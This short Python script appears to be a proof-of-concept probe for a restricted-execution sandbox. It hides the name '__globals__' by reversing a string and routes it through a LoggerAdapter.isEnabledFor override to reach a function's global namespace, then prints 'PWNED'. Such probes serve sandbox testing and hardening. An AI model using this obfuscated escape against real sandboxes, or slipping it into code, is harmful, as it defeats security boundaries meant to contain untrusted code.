# a library calls the method: LoggerAdapter.isEnabledFor
def f():
    pass


H = "".join(reversed("__slabolg__"))


import logging


class A(logging.LoggerAdapter):
    def isEnabledFor(self, names):
        print([getattr(f, n, None) for n in names])
        if len(names) > 1:
            print("PWNED", len([getattr(f, n, None) for n in names][0]))
        return False


a = A(logging.getLogger("a"), {})
a.isEnabledFor(["x"])
a.log([H, "x"], "hello")
